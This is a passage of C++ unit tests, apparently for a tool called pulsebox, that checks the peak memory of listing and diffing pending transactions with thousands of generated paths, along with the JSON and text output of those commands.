  std::vector<std::string> args = {"changes", "--json"};
  expect_within(args, peak_kb_of(args, printed));
  const json listed = json::parse(read_file(printed));
  ASSERT_EQ(listed.size(), 1u);
  EXPECT_EQ(listed[0].at("changes").size(), changes);
  EXPECT_EQ(listed[0].at("id"), *tx);

  args = {"diff", "--json", *tx};
  expect_within(args, peak_kb_of(args, printed), 48);
  const json counted = json::parse(read_file(printed));
  ASSERT_EQ(counted.at("paths").size(), changes);
  EXPECT_EQ(counted.at("paths").back().at("added_lines"), 1);

  args = {"diff", "--stat", *tx};
  expect_within(args, peak_kb_of(args, printed), 48);
  EXPECT_NE(read_file(printed).find(" paths changed, " + std::to_string(kPaths) + " insertions(+)"),
            std::string::npos);

  args = {"diff", *tx};
  expect_within(args, peak_kb_of(args, printed));
  EXPECT_NE(read_file(printed).find("+++ b/gen/19/f999.txt\n@@ -0,0 +1 @@\n+line 999\n"),
            std::string::npos);
}

// Listing the pending transactions, and finding the latest of them, held
// every transaction's description at once (about 250 bytes a path each):
// an agent's uncommitted runs can leave many large ones. Now one at a time:
// with three transactions of 10,000 paths, `changes`, `changes --json` and
// `diff --name-only` of the latest peak within 200 bytes a path of one
// transaction above `diff --name-only` of a named one, which holds one
// description (the old binary: two more descriptions, about 500 a path).
TEST_F(ReviewTest, PendingTransactionsAreListedOneDescriptionAtATime) {
  constexpr int kPaths = 10000;
  std::vector<std::string> ids;
  for (const std::string top : {"one", "two", "six"}) {  // names of one length
    const auto tx = transaction_of_many_paths(kPaths, top);
    ASSERT_TRUE(tx.has_value());
    ids.push_back(*tx);
  }
  const fs::path printed = scratch_ / "printed.txt";
  const long one_kb = peak_kb_of({"diff", "--name-only", ids[2]}, printed);
  const long allowed_kb = one_kb + kPaths * 200 / 1024;
  const auto expect_within = [&](const std::vector<std::string>& args) {
    const long kb = peak_kb_of(args, printed);
    EXPECT_LE(kb, allowed_kb) << args[0] << " " << args[1] << " peaked at " << kb
                              << " kB; one description at " << one_kb << " kB";
  };

  expect_within({"changes", "--all"});
  const std::string listed = read_file(printed);
  for (const std::string& id : ids)
    EXPECT_NE(listed.find(id + "  "), std::string::npos) << id;
  EXPECT_NE(listed.find("  added     six/9/f999.txt\n"), std::string::npos);

  expect_within({"changes", "--json"});
  const json document = json::parse(read_file(printed));
  ASSERT_EQ(document.size(), 3u);
  for (const json& transaction : document)
    EXPECT_GT(transaction.at("changes").size(), static_cast<std::size_t>(kPaths));

  expect_within({"diff", "--name-only"});  // the latest: the last imported
  EXPECT_NE(read_file(printed).find("six/9/f999.txt\n"), std::string::npos);
  EXPECT_EQ(read_file(printed).find("one/"), std::string::npos);
}

}  // namespace
}  // namespace pulsebox
